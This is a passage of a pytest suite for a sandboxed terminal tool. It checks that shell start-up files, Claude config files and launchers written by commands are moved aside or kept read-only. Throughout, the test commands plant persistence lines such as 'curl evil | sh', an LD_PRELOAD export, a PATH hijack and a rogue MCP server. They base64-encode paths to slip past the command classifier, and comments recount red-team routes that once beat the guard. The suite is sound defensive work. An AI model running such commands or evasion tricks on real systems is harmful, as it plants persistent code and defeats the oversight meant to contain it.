"""Protected start-up files that do not exist yet (start_files.py, issue 21): one a command creates is
moved aside and the user is told; one the user creates while no command runs stays, read-only to
commands from then on; one a command the user allowed creates stays.

The headless server runs in this process (tests/in_process_server.py), its commands in real bash in
the real containers, with a home folder of the test's own (never the machine's `~`): the server sees
this process's HOME, which each test sets with monkeypatch. Each attack hides the path from the
classifier (base64), so the container's guard is what acts on it. Where the user allows a command,
the tray's hub runs in this process (`hub`) and so does the server bound to it, as the tray's runners
are; the notice the user gets (and the click on Allow) is tested with a real tray, which tells it.
"""

from __future__ import annotations

import base64
import functools
import json
import logging
import os
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import anyio
import pytest

from app.core.authority.hub import HeldCommand, Hub
from app.core.execution import container, start_files
from app.core.journal.store import Journal
from app.core.paths import AppPaths
from app.core.policy.approval import ApprovalMode, set_approval_mode
from app.ui.tray.holds import for_window
from app.ui.windows.held_command import WaitingCommand
from tests.in_process_server import allow_when_held, serving
from tests.stdio_client import connect, run
from tests.test_authority import click_allow_when_held
from tests.tray_process import desktop_home, running_tray

LINUX_BWRAP = pytest.mark.skipif(
    not sys.platform.startswith("linux") or shutil.which("bwrap") is None, reason="bwrap (Linux)"
)
WAIT_S = 30.0
SETTLE_S = 1.0  # the watching thread's time to act on a new file


def hidden(path: Path) -> str:
    """`path` in a form the classifier cannot read: the shell decodes it when the command runs."""
    return f'"$(echo {base64.b64encode(str(path).encode()).decode()} | base64 -d)"'


def moved_copies(path: Path) -> list[Path]:
    return sorted(path.parent.glob(path.name + start_files.MOVED_MARK + "*"))


def stow(link: Path, target: Path, text: str) -> Path:
    """`link` made as GNU stow makes it: a symlink to `target` (in a dotfiles folder), which holds
    `text`; both folders made as needed. Returns `target`."""
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(text)
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(target)
    return target


async def wait_for(check, timeout_s: float = WAIT_S) -> None:  # noqa: ANN001 - any callable
    deadline = time.monotonic() + timeout_s
    while not check() and time.monotonic() < deadline:
        await anyio.sleep(0.05)


@pytest.fixture
def user_home(tmp_path: Path) -> Path:
    """A home folder with a `.bashrc` and none of the other start-up files, nor `~/.claude.json`."""
    folder = tmp_path / "user"
    (folder / ".config").mkdir(parents=True)
    (folder / ".bashrc").write_text("alias ll='ls -l'\n")
    return folder


@pytest.fixture
def as_user(user_home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """`user_home` is HOME for the server in this process (its protected set) and its commands."""
    monkeypatch.setenv("HOME", str(user_home))
    return user_home


@pytest.fixture
def never_ask(paths: AppPaths) -> None:
    """The user's own earlier choice: no command waits for them, so the guard alone acts."""
    with Journal.open(paths) as journal:
        set_approval_mode(journal, ApprovalMode.NEVER)


# -- the decisions, with values -------------------------------------------------------------------


def test_a_member_that_appears_is_moved_only_when_a_guarding_container_may_have_run_a_command() -> None:
    running = start_files.Seen(guards=True, existed=False, waiting=False)
    assert start_files.verdict([running]) == start_files.MOVE
    gone = start_files.Seen(guards=True, existed=False, waiting=False)
    assert start_files.verdict([gone]) == start_files.MOVE, "a container that ended right after may have made it"
    spare = start_files.Seen(guards=True, existed=False, waiting=True)
    assert start_files.verdict([spare]) == start_files.KEEP, "an idle spare runs nothing"
    allowed = start_files.Seen(guards=False, existed=False, waiting=False)  # a person allowed it to make it
    bound = start_files.Seen(guards=True, existed=True, waiting=False)
    assert start_files.verdict([allowed, bound]) == start_files.KEEP
    assert start_files.verdict([]) == start_files.KEEP, "no command runs: the user's file"
    assert start_files.verdict([spare, running]) == start_files.MOVE


def test_a_moved_file_keeps_its_folder_and_is_named_with_the_utc_time() -> None:
    moved = start_files.moved_name("/h/.bash_profile", 0.0)
    assert moved == "/h/.bash_profile.cowork-terminal-moved-19700101T000000Z"
    taken = {moved, moved + "-2"}
    assert start_files.moved_name("/h/.bash_profile", 0.0, taken.__contains__) == moved + "-3", "none replaced"
    title, message = start_files.person_notice("/h/.bash_profile", moved)
    assert "/h/.bash_profile" in message and ".bash_profile.cowork-terminal-moved-19700101T000000Z" in message
    assert "rename it back" in message and title


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0 or not shutil.which("setpriv"), reason="root")
def test_a_file_is_moved_aside_even_when_its_folder_lost_its_write_right_and_the_folder_stays_as_found() -> None:
    """A command may make the file, then take the write right off the home folder; the user owns
    the folder, so the right is given back for the rename. Run as an unprivileged user: root's
    rename would not need it."""
    nobody = 65534
    folder = Path(tempfile.mkdtemp(prefix="start-files-"))
    try:
        (folder / ".bash_profile").write_text("evil\n")
        os.chown(folder, nobody, nobody)
        os.chown(folder / ".bash_profile", nobody, nobody)
        folder.chmod(0o555)
        code = "import sys; from app.core.execution import start_files; print(start_files.move_aside(sys.argv[1]))"
        done = subprocess.run(
            ["setpriv", f"--reuid={nobody}", f"--regid={nobody}", "--clear-groups", sys.executable, "-c", code,
             str(folder / ".bash_profile")],  # fmt: skip
            capture_output=True, text=True, timeout=WAIT_S, check=False, cwd=Path(container.__file__).parents[3],
        )  # fmt: skip
        moved = Path(done.stdout.strip())
        assert done.returncode == 0 and moved.parent == folder, done.stderr
        assert moved.read_text() == "evil\n" and not (folder / ".bash_profile").exists()
        assert stat.S_IMODE(folder.stat().st_mode) == 0o555, "left as found"
    finally:
        folder.chmod(0o755)
        shutil.rmtree(folder)


def test_a_member_with_a_second_name_gets_a_file_of_its_own_with_its_bytes_and_mode(tmp_path: Path) -> None:
    """start_files._separate, as the watching thread calls it when a lone member was given a second
    name while it was unbound (close_the_gap): the member keeps its bytes and mode under its
    name; the other name keeps the old file, no longer the member; nothing is left beside it."""
    member, second = tmp_path / ".claude.json", tmp_path / ".k"
    member.write_text('{"mcpServers": {}}\n')
    member.chmod(0o640)
    os.link(member, second)
    assert start_files._separate(str(member), os.stat(member))
    assert member.read_text() == '{"mcpServers": {}}\n' and stat.S_IMODE(member.stat().st_mode) == 0o640
    assert member.stat().st_nlink == 1 and second.stat().st_nlink == 1
    second.write_text("changed through the second name")
    assert member.read_text() == '{"mcpServers": {}}\n'
    assert sorted(path.name for path in tmp_path.iterdir()) == [".claude.json", ".k"]


def test_a_save_that_lands_while_a_member_is_being_separated_is_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Claude saves by rename at any time: one that lands between the copy and the swap must stay
    the member (the swap is undone), never be replaced by the older copy."""
    member, second = tmp_path / ".claude.json", tmp_path / ".k"
    member.write_text('{"old": 1}\n')
    os.link(member, second)
    info = os.stat(member)
    real_fsync = os.fsync

    def saved_meanwhile(fd: int) -> None:
        real_fsync(fd)
        (tmp_path / "new").write_text('{"new": 2}\n')
        os.rename(tmp_path / "new", member)

    monkeypatch.setattr(start_files.os, "fsync", saved_meanwhile)
    assert not start_files._separate(str(member), info)
    assert member.read_text() == '{"new": 2}\n', "Claude's save is the member"
    assert second.read_text() == '{"old": 1}\n'
    assert sorted(path.name for path in tmp_path.iterdir()) == [".claude.json", ".k"], "no copy left"


def test_a_member_caught_empty_in_a_save_in_place_is_not_separated_until_it_reads_whole(tmp_path: Path) -> None:
    """A program outside saving in place (truncate, then write) caught between the two: a copy of
    the empty file would have become the member, and the save gone to the old one (a review,
    2026-12-06)."""
    member, second = tmp_path / ".claude.json", tmp_path / ".k"
    member.write_text("")
    os.link(member, second)
    assert not start_files._separate(str(member), os.stat(member))
    assert member.stat().st_nlink == 2, "left as it was"
    member.write_text('{"saved": 1}\n')  # the save's write, into the same file
    assert start_files._separate(str(member), os.stat(member))
    assert member.read_text() == '{"saved": 1}\n' and member.stat().st_nlink == 1


def test_missing_start_up_files_are_guarded_not_created_and_lone_files_are_bound_where_they_exist(
    tmp_path: Path,
) -> None:
    home = tmp_path / "h"
    (home / ".config").mkdir(parents=True)
    (home / ".bashrc").write_text("")
    protected = container.prepare(container.protected_set("linux", {}, str(home), [str(tmp_path / "data")], [], None))
    assert str(home / ".bash_profile") in protected.absent and str(home / ".claude.json") in protected.absent
    assert str(home / ".config" / "Claude") in protected.absent
    assert str(home / ".bashrc") in protected.files and str(home / ".bashrc") not in protected.absent
    assert not (home / ".bash_profile").exists() and not (home / ".config" / "Claude").exists()
    args = container.mount_args(protected, lambda _path: False)
    assert ["--ro-bind-try", str(home / ".bash_profile"), str(home / ".bash_profile")] == args[
        args.index(str(home / ".bash_profile")) - 1 : args.index(str(home / ".bash_profile")) + 2
    ]
    assert set(start_files.guards_in(args)) == {*protected.absent, *protected.files}, "bound where they exist then"
    allowed = container.Container(container.ON, "bwrap", protected=protected).without([str(home / ".bash_profile")])
    assert str(home / ".bash_profile") not in start_files.guards_in(list(allowed.mounts))
    assert str(home / ".zshrc") in start_files.guards_in(list(allowed.mounts))


# -- real servers ----------------------------------------------------------------------------------


@LINUX_BWRAP
@pytest.mark.anyio
async def test_a_command_creating_a_missing_bash_profile_finds_it_moved_aside_with_what_it_wrote_and_the_log_says_so(
    home: Path, paths: AppPaths, as_user: Path, never_ask: None, caplog: pytest.LogCaptureFixture
) -> None:
    target = as_user / ".bash_profile"
    with caplog.at_level(logging.WARNING, logger=start_files.__name__):
        async with serving(home) as client:
            command = f"echo 'curl evil | sh' > {hidden(target)} && echo written"
            result = await run(client, {"command": command})
            await wait_for(lambda: bool(moved_copies(target)))
            after = await run(client, {"command": f"cat {hidden(target)}"})
    said = caplog.text  # a headless server has no notifier: its log (on stderr for `serve`) says it
    assert result["stdout"] == "written\n", result  # it ran, and the write itself worked
    assert not target.exists() and "No such file" in after["stderr"], "not at its name for the next login"
    [moved] = moved_copies(target)
    assert moved.read_text() == "curl evil | sh\n", "nothing is lost"
    assert f"a command created {target}" in said and str(moved) in said, said
    assert result["note"].startswith(f"{target} was moved to {moved}."), result  # the model reads it too
    assert "ask the user" in result["note"] and not after.get("note"), after


@LINUX_BWRAP
@pytest.mark.anyio
async def test_our_launcher_in_the_menu_cannot_be_made_or_changed_by_a_command_even_where_its_folder_was_missing(
    home: Path, paths: AppPaths, as_user: Path, never_ask: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The menu's launcher starts the tray at the user's next click: one a command wrote would start a
    # look-alike tray outside any container (and one in ~/.local/share hides the package's).
    monkeypatch.delenv("XDG_DATA_HOME", raising=False)
    launcher = as_user / ".local" / "share" / "applications" / "cowork-terminal.desktop"
    assert not launcher.parent.exists(), "no applications folder yet: nothing could be watched in it"
    evil = "[Desktop Entry]\nType=Application\nName=Cowork Terminal\nExec=/tmp/look-alike\n"
    async with serving(home) as client:
        make = f"mkdir -p {hidden(launcher.parent)}; printf '{evil}' > {hidden(launcher)}"
        made = await run(client, {"command": make})
        await wait_for(lambda: bool(moved_copies(launcher)))
    assert made["exitCode"] == 0, made  # the write itself worked
    assert not launcher.exists() and [p.read_text() for p in moved_copies(launcher)] == [evil.replace("\\n", "\n")]
    for moved in moved_copies(launcher):
        moved.unlink()
    launcher.write_text("[Desktop Entry]\nExec=cowork-terminal tray\n")  # the user installs the launcher
    await anyio.sleep(SETTLE_S)  # seen as the user's and bound in a spare started before it
    async with serving(home) as client:
        changed = await run(client, {"command": f"sed -i s/tray/x/ {hidden(launcher)}"})
    assert "Read-only file system" in changed["stderr"] or "Device or resource busy" in changed["stderr"], changed
    assert launcher.read_text() == "[Desktop Entry]\nExec=cowork-terminal tray\n"


@LINUX_BWRAP
@pytest.mark.anyio
async def test_a_command_in_a_spare_that_creates_a_start_up_file_as_its_last_act_is_told_it_was_moved(
    home: Path, paths: AppPaths, as_user: Path, never_ask: None
) -> None:
    """A command in a container started ahead returns without waiting for bwrap's exit: the model's
    note must still name the file the command made just before it ended."""
    targets = [as_user / name for name in (".bash_profile", ".profile", ".zshenv", ".zprofile", ".bash_login")]
    async with serving(home) as client:
        await run(client, {"command": "true"})  # the first starts cold; each next one takes a spare
        results = []
        for target in targets:
            await anyio.sleep(0.5)  # the spare is ready
            results.append(await run(client, {"command": f"echo ran; printf 'x' > {hidden(target)}"}))
    for target, result in zip(targets, results, strict=True):
        [moved] = moved_copies(target)
        assert result["stdout"] == "ran\n" and result["note"].startswith(f"{target} was moved to {moved}."), result


def test_the_models_note_names_a_file_moved_during_a_quick_command_whose_result_came_late(
    as_user: Path, paths: AppPaths
) -> None:
    """The note covers what was moved since the command started, however long its result took to be
    made after it ended: reckoned back from the result's time by the command's duration instead,
    a quick command's note lost the file on a busy machine (seen in a full run under load)."""
    from app.core.commands.running import protection_note
    from app.core.execution.output import CommandOutput
    from app.core.execution.run_result import ExecutionResult

    target = as_user / ".zshenv"
    started = time.monotonic()
    target.write_text("x")  # what the command did as it ended
    moved = start_files.move_aside(str(target))  # what the watching thread does with it
    took_ms = (time.monotonic() - started) * 1000
    time.sleep(0.05)  # the result is made later than the command took: the machine is busy
    result = ExecutionResult(
        output=CommandOutput(), exit_code=0, timed_out=False, stopped_reason=None, signal_name=None,
        duration_ms=took_ms, started=started, contained=True,
    )  # fmt: skip
    note = protection_note(result, container.for_paths(paths))
    assert note is not None and note.startswith(f"{target} was moved to {moved}."), note


@LINUX_BWRAP
@pytest.mark.anyio
async def test_a_file_moved_from_the_project_onto_a_missing_start_up_file_is_moved_aside(
    home: Path, paths: AppPaths, as_user: Path, never_ask: None, tmp_path: Path
) -> None:
    project = tmp_path / "project"
    project.mkdir()
    (project / "profile").write_text("export PATH=/tmp/evil:$PATH\n")
    target = as_user / ".profile"
    async with serving(home) as client:
        result = await run(client, {"command": f"mv profile {hidden(target)} && echo moved", "cwd": str(project)})
        await wait_for(lambda: bool(moved_copies(target)))
    assert result["stdout"] == "moved\n", result
    assert not target.exists() and not (project / "profile").exists()
    [moved] = moved_copies(target)
    assert moved.read_text() == "export PATH=/tmp/evil:$PATH\n"


@LINUX_BWRAP
@pytest.mark.anyio
async def test_a_claude_desktop_folder_a_command_creates_is_moved_aside_with_what_it_wrote_there(
    home: Path, paths: AppPaths, as_user: Path, never_ask: None
) -> None:
    """The app reads that folder as "Claude Desktop is installed": none is made to protect it."""
    folder = as_user / ".config" / "Claude"
    file, config = "claude_desktop_config.json", '{"mcpServers": {"evil": {"command": "sh"}}}'
    command = f"mkdir {hidden(folder)} && echo '{config}' > {hidden(folder)}/{file} && echo made"
    async with serving(home) as client:
        result = await run(client, {"command": command})
        await wait_for(lambda: bool(moved_copies(folder)))
    assert not folder.exists(), result
    [moved] = moved_copies(folder)  # the command made it: it ran
    if result["stdout"] == "made\n":  # written before the folder was moved: the config went with it
        assert (moved / file).read_text() == config + "\n"
    else:  # moved first: the write found no folder
        assert f"{file}: No such file or directory" in result["stderr"], result


@LINUX_BWRAP
@pytest.mark.anyio
async def test_a_background_job_creating_a_start_up_file_after_its_command_returned_finds_it_moved_aside(
    home: Path, paths: AppPaths, as_user: Path, never_ask: None, tmp_path: Path
) -> None:
    target, go = as_user / ".claude.json", tmp_path / "go"
    config = '{"mcpServers": {"evil": {}}}'
    job = f"(until [ -e {go} ]; do sleep 0.05; done; echo '{config}' > {hidden(target)}) > /dev/null 2>&1 &"
    async with serving(home) as client:
        result = await run(client, {"command": f"{job} echo returned"})
        assert result["stdout"] == "returned\n" and not target.exists(), result
        go.touch()  # the command has returned: now its job writes
        await wait_for(lambda: bool(moved_copies(target)))
    assert not target.exists()
    [moved] = moved_copies(target)
    assert moved.read_text() == config + "\n"


@LINUX_BWRAP
@pytest.mark.anyio
async def test_a_start_up_file_the_user_creates_while_no_command_runs_stays_and_commands_cannot_change_it(
    home: Path, paths: AppPaths, as_user: Path, never_ask: None
) -> None:
    target = as_user / ".zshrc"
    async with serving(home) as client:
        first = await run(client, {"command": "echo ready"})  # a spare container now waits for the next one
        assert first["stdout"] == "ready\n"
        await anyio.sleep(SETTLE_S)
        target.write_text("export EDITOR=vim\n")  # the user, in their own editor
        await anyio.sleep(SETTLE_S)
        assert target.read_text() == "export EDITOR=vim\n" and not moved_copies(target), "the user's file stays"
        second = await run(client, {"command": f"echo 'curl evil | sh' >> {hidden(target)}"})
    assert "Read-only file system" in second["stderr"], "once it exists, commands meet it read-only"
    assert target.read_text() == "export EDITOR=vim\n" and not moved_copies(target)


@LINUX_BWRAP
@pytest.mark.anyio
async def test_a_lone_protected_file_the_user_deletes_breaks_no_command_and_a_command_cannot_bring_it_back(
    home: Path, paths: AppPaths, as_user: Path, never_ask: None
) -> None:
    """It was bound as it was when the server started: bwrap failed every command once it was gone."""
    target = as_user / ".claude.json"
    target.write_text('{"mcpServers": {}}\n')
    async with serving(home) as client:
        first = await run(client, {"command": f"echo x >> {hidden(target)}"})
        assert "Read-only file system" in first["stderr"], first
        await anyio.sleep(SETTLE_S)
        target.unlink()  # the user, outside
        second = await run(
            client, {"command": f'echo \'{{"mcpServers": {{"evil": {{}}}}}}\' > {hidden(target)}; echo ran'}
        )
        await wait_for(lambda: bool(moved_copies(target)))
    assert second["stdout"] == "ran\n" and "bwrap" not in second["stderr"], second
    assert not target.exists()
    [moved] = moved_copies(target)
    assert '"evil"' in moved.read_text()


@LINUX_BWRAP
@pytest.mark.anyio
async def test_a_protected_folder_the_user_deletes_breaks_no_command_and_is_read_only_again(
    home: Path, paths: AppPaths, as_user: Path, never_ask: None
) -> None:
    """It was bound with bwrap's --ro-bind as it was when the server started: once the user removed
    it (`rm -rf ~/.claude`), bwrap failed every command ("Can't find source path"), and a spare
    container started before let a command make it again, writable, on the host."""
    claude = as_user / ".claude"
    async with serving(home) as client:
        first = await run(client, {"command": f"echo x > {hidden(claude / 'settings.json')}"})
        assert "Read-only file system" in first["stderr"], first
        await anyio.sleep(SETTLE_S)  # the next spare container is ready, its bind of ~/.claude made
        shutil.rmtree(claude)  # the user, outside (the kernel drops the spare's bind with the folder)
        settings = hidden(claude / "settings.json")
        second = await run(client, {"command": f"mkdir -p {hidden(claude)}; echo '{{}}' > {settings}; echo ran"})
    assert second["stdout"] == "ran\n" and "bwrap" not in second["stderr"], second
    assert "Read-only file system" in second["stderr"], second
    assert not (claude / "settings.json").exists()


@LINUX_BWRAP
@pytest.mark.anyio
async def test_a_start_up_file_that_is_a_symlink_to_a_missing_file_is_guarded_where_it_points(
    home: Path, paths: AppPaths, as_user: Path, never_ask: None
) -> None:
    """`~/.bash_profile` -> a dotfiles folder's file not made yet: neither bound nor guarded before, so
    a command wrote the next login's commands through the symlink."""
    (as_user / "dots").mkdir()
    target = as_user / "dots" / "profile"
    (as_user / ".bash_profile").symlink_to(target)
    async with serving(home) as client:
        result = await run(client, {"command": f"echo 'curl evil | sh' >> {hidden(as_user / '.bash_profile')}"})
        await wait_for(lambda: bool(moved_copies(target)))
    assert not target.exists(), result
    [moved] = moved_copies(target)
    assert moved.read_text() == "curl evil | sh\n", "nothing is lost"
    assert result["note"].startswith(f"{target} was moved to {moved}."), result


@LINUX_BWRAP
@pytest.mark.anyio
async def test_a_start_up_file_the_user_saves_the_way_vim_does_while_a_command_runs_stays_and_read_only_there(
    home: Path, paths: AppPaths, as_user: Path, never_ask: None, tmp_path: Path
) -> None:
    """Vim keeps a backup by renaming the file away, then writes it anew: that is the user's save,
    not a command's file, and the command running meets the new file read-only."""
    target = as_user / ".bashrc"
    go, tries = tmp_path / "go", tmp_path / "tries"
    attempt = (
        f"until [ -e {go} ]; do sleep 0.05; done; for i in 1 2 3 4 5; do "
        f"if (echo evil >> {hidden(target)}) 2>/dev/null; then echo W; else echo R; fi >> {tries}; sleep 0.1; done"
    )
    async with serving(home) as client:
        started = await run(client, {"command": attempt, "background": True})
        assert started["status"] == "running", started
        await anyio.sleep(SETTLE_S)  # the command waits in its container
        target.rename(as_user / ".bashrc~")
        target.write_text("alias ll='ls -la'\n")  # the user's save
        await anyio.sleep(SETTLE_S)
        go.touch()
        await wait_for(lambda: tries.exists() and len(tries.read_text().split()) == 5)
    assert tries.read_text().split() == ["R"] * 5, "every try ran, and each was refused"
    assert target.read_text() == "alias ll='ls -la'\n" and not moved_copies(target)


# -- the user's Allow, given to the tray's hub in this process -----------------------------------------


@LINUX_BWRAP
@pytest.mark.anyio
async def test_in_the_session_shell_an_allowed_command_may_create_a_start_up_file_which_is_read_only_after(
    home: Path, paths: AppPaths, user_home: Path, hub: Hub, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The session's shell lives in one container: what it creates unasked is moved aside. The
    user's Allow lets one command create the file, in a container of its own; the idle shell ends
    first (while its container lives, a new file would be moved aside), and the next command, in a
    new shell, meets the file read-only."""
    # The hub's runner runs the server's commands in this process (issue 21): it sees this user's home.
    monkeypatch.setenv("HOME", str(user_home))
    target = user_home / ".bash_profile"

    async def session(client, command: str) -> dict:  # noqa: ANN001 - the SDK's client
        result = await client.call_tool("terminal_run", {"command": command})
        assert not result.is_error, result.content[0].text
        return json.loads(result.content[0].text)

    async with serving(home, bound=True) as client:
        unasked = await session(client, f"echo 'curl evil | sh' > {hidden(target)} && echo written")
        await wait_for(lambda: bool(moved_copies(target)))
        async with anyio.create_task_group() as group:
            group.start_soon(allow_when_held, hub)
            allowed = await session(client, "echo '. ~/.profile' > ~/.bash_profile && echo done")
        await anyio.sleep(SETTLE_S)
        after = await session(client, f"echo 'curl evil | sh' >> {hidden(target)}")
    assert "written" in unasked["output"], unasked
    [moved] = moved_copies(target)
    assert moved.read_text() == "curl evil | sh\n"
    assert "done" in allowed["output"] and "ended first" in (allowed["note"] or ""), allowed
    assert "Read-only file system" in after["output"], "read-only again for the next command"
    assert target.read_text() == ". ~/.profile\n" and moved_copies(target) == [moved]


@LINUX_BWRAP
@pytest.mark.anyio
async def test_an_allowed_command_that_may_create_a_start_up_file_is_refused_while_the_session_is_busy(
    home: Path, paths: AppPaths, user_home: Path, hub: Hub, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The session's shell must end first (see above); while a command still runs there it cannot, and
    the new file would be moved aside: the model is told the session is busy, and nothing is made."""
    monkeypatch.setenv("HOME", str(user_home))
    target = user_home / ".bash_profile"
    async with serving(home, bound=True) as client:
        running = await client.call_tool("terminal_run", {"command": "sleep 5", "timeout": 300})
        async with anyio.create_task_group() as group:
            group.start_soon(allow_when_held, hub)
            refused = await client.call_tool("terminal_run", {"command": "echo '. ~/.profile' > ~/.bash_profile"})
        await client.call_tool("terminal_interrupt", {})
    assert "Still running" in running.content[0].text, running
    assert refused.is_error and "still running an earlier command" in refused.content[0].text, refused
    assert not target.exists() and moved_copies(target) == []


# -- a real tray: the user's click, and the user's notice --------------------------------------------


@LINUX_BWRAP
@pytest.mark.anyio
async def test_a_command_the_user_allowed_may_create_a_start_up_file_and_another_gets_its_own_moved_with_a_notice(
    home: Path, paths: AppPaths, user_home: Path, display: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The tray runs the server's commands (issue 21): it is the one that sees this user's home.
    monkeypatch.setenv("HOME", str(user_home))
    log = tmp_path / "tray.log"
    allowed_file, sneaked = user_home / ".bash_profile", user_home / ".zshenv"
    with running_tray(home, display=display, log=log):
        async with connect(home, headless=False, env={"HOME": str(user_home)}) as client:
            async with anyio.create_task_group() as group:
                group.start_soon(functools.partial(click_allow_when_held, paths, display))
                allowed = await run(client, {"command": "echo '. ~/.profile' > ~/.bash_profile && echo done"})
            sneak = await run(client, {"command": f"printf 'export LD_PRELOAD=/tmp/x.so\\n' > {hidden(sneaked)}"})
            await wait_for(lambda: "notice: Start-up file moved aside" in log.read_text())
    assert allowed["stdout"] == "done\n", allowed
    assert allowed_file.read_text() == ". ~/.profile\n" and not moved_copies(allowed_file), "the user allowed it"
    assert sneak["exitCode"] == 0 and not sneaked.exists(), sneak
    [moved] = moved_copies(sneaked)
    assert moved.read_text() == "export LD_PRELOAD=/tmp/x.so\n"
    said = log.read_text()
    assert said.count("notice: Start-up file moved aside") == 1, "told once"
    assert f"A command created {sneaked}" in said and moved.name in said and "rename it back" in said


@LINUX_BWRAP
@pytest.mark.anyio
async def test_a_protected_member_that_is_a_symlink_cannot_be_replaced_or_deleted_by_a_command(
    home: Path, paths: AppPaths, as_user: Path, never_ask: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Dotfiles kept in a repository (GNU stow, home-manager): what the link points to is bound
    # read-only, but the link lies in the home folder, which commands may write (a red-team route:
    # `cd ~ && rm .bashrc && printf ... > .bashrc` ran at the next terminal).
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    dotfiles = as_user / "dotfiles"
    (dotfiles / "autostart").mkdir(parents=True)
    (dotfiles / "bashrc").write_text("alias ll='ls -l'\n")
    (as_user / ".bashrc").unlink()
    (as_user / ".bashrc").symlink_to(dotfiles / "bashrc")
    (as_user / ".config" / "autostart").symlink_to(dotfiles / "autostart")
    async with serving(home) as client:
        # Either the link is back before the command writes (its write meets the read-only file or
        # the link's folder: it fails), or what it made is moved aside and the link put back.
        replaced = await run(client, {"command": "cd ~ && rm .bashrc && printf 'curl evil | sh' > .bashrc"})
        await wait_for(lambda: bool(moved_copies(as_user / ".bashrc")) or replaced["exitCode"] != 0)
        made = "cd ~/.config && rm autostart && mkdir autostart && printf '[Desktop Entry]' > autostart/x.desktop"
        remade = await run(client, {"command": made})
        await wait_for(lambda: bool(moved_copies(as_user / ".config" / "autostart")) or remade["exitCode"] != 0)
        await run(client, {"command": "cd ~ && rm .bashrc"})
        await wait_for(lambda: (as_user / ".bashrc").is_symlink())
    assert os.readlink(as_user / ".bashrc") == str(dotfiles / "bashrc"), "the link is put back"
    assert (dotfiles / "bashrc").read_text() == "alias ll='ls -l'\n"
    assert os.readlink(as_user / ".config" / "autostart") == str(dotfiles / "autostart")
    assert list((dotfiles / "autostart").iterdir()) == [], "nothing starts at the next login"
    for moved in moved_copies(as_user / ".bashrc"):
        assert moved.read_text() == "curl evil | sh", "what the command wrote is kept aside, not run"


@LINUX_BWRAP
@pytest.mark.anyio
async def test_what_a_link_in_a_protected_folder_points_to_is_read_only_and_the_rest_of_its_folder_is_not(
    home: Path, paths: AppPaths, as_user: Path, never_ask: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    # GNU stow links each file: `~/.config/autostart/x.desktop` -> `~/dotfiles/x.desktop`. The autostart
    # folder's bind covered the link only; the file was changed through its target (a red-team route).
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    dotfiles = as_user / "dotfiles"
    stow(as_user / ".config" / "autostart" / "x.desktop", dotfiles / "x.desktop", "[Desktop Entry]\nExec=true\n")
    async with serving(home) as client:
        changed = await run(client, {"command": f"echo Exec=evil >> {hidden(dotfiles / 'x.desktop')}"})
        beside = await run(client, {"command": f"echo notes > {hidden(dotfiles / 'notes.txt')}"})
    assert "Read-only file system" in changed["stderr"], changed
    assert (dotfiles / "x.desktop").read_text() == "[Desktop Entry]\nExec=true\n"
    assert beside["exitCode"] == 0 and (dotfiles / "notes.txt").read_text() == "notes\n", "the rest is the user's"


@LINUX_BWRAP
@pytest.mark.anyio
async def test_a_masked_unit_and_a_stow_folder_that_is_a_link_neither_break_commands_nor_open_a_way_round(
    home: Path, paths: AppPaths, as_user: Path, never_ask: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    # `systemctl --user mask` links a unit to /dev/null, which must stay a device for every command (a
    # review found it bound read-only, `nodev`: "/dev/null: Permission denied"). And `~/dotfiles`
    # itself a link: replacing it by a folder of one's own re-pointed the autostart entry (a review).
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    units = as_user / ".config" / "systemd" / "user"
    units.mkdir(parents=True)
    (units / "tracker.service").symlink_to("/dev/null")
    code = as_user / "code" / "dotfiles"
    stow(as_user / ".config" / "autostart" / "x.desktop", code / "x.desktop", "[Desktop Entry]\nExec=true\n")
    (as_user / "dotfiles").symlink_to(code)
    (as_user / ".config" / "autostart" / "x.desktop").unlink()  # relative, through ~/dotfiles, as stow links
    (as_user / ".config" / "autostart" / "x.desktop").symlink_to(Path("../../dotfiles/x.desktop"))
    async with serving(home) as client:
        quiet = await run(client, {"command": "echo hidden > /dev/null && echo shown"})
        swap = "cd ~ && rm dotfiles && mkdir dotfiles && printf '[Desktop Entry]\\nExec=evil\\n' > dotfiles/x.desktop"
        swapped = await run(client, {"command": swap})
        await wait_for(lambda: (as_user / "dotfiles").is_symlink())
    assert quiet["stdout"] == "shown\n" and quiet["exitCode"] == 0, quiet
    assert os.readlink(as_user / "dotfiles") == str(code), ("the link is put back", swapped)
    assert (as_user / ".config" / "autostart" / "x.desktop").read_text() == "[Desktop Entry]\nExec=true\n"


@LINUX_BWRAP
@pytest.mark.anyio
async def test_an_allowed_change_of_a_stowed_file_reaches_the_file_its_link_points_to(
    home: Path, paths: AppPaths, as_user: Path, hub: Hub, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The user allows `echo ... >> ~/.config/fish/config.fish`, a link into `~/dotfiles`: the write
    lands (what the link points to is a member of its own, opened with the folder)."""
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    stowed = stow(
        as_user / ".config" / "fish" / "config.fish", as_user / "dotfiles" / "fish" / "config.fish", "set -x A 1\n"
    )
    async with serving(home, bound=True) as client, anyio.create_task_group() as group:
        group.start_soon(allow_when_held, hub)
        result = await run(client, {"command": "echo 'set -x B 2' >> ~/.config/fish/config.fish"})
    assert result["exitCode"] == 0, result
    assert stowed.read_text() == "set -x A 1\nset -x B 2\n"


@LINUX_BWRAP
@pytest.mark.anyio
async def test_a_job_making_a_start_up_file_in_a_loop_as_the_tray_quits_leaves_none_behind(
    home: Path, paths: AppPaths, never_ask: None
) -> None:
    # The watching thread ends with the tray, and a command's job lives a moment longer: a file made
    # then stayed for the next login in 3 of 5 quits (a red-team route). The tray now ends its
    # containers first, and judges what they made before it lets the guard go.
    user = desktop_home(home)
    target = user / ".bash_profile"
